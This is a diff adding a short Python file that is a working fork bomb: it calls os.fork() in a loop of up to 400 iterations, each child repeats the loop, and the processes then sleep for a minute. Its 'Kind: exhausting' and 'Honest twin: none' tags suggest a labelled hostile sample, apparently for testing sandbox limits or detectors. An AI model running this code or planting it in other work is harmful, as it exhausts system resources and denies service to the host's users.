@@ -1,0 +1,16 @@
+"""Forks as often as it can, and each child does the same.
+
+Kind: exhausting
+Honest twin: none
+"""
+# mypy: ignore-errors
+
+import os
+import time
+
+for _ in range(400):
+    try:
+        os.fork()
+    except OSError:
+        break
+time.sleep(60)
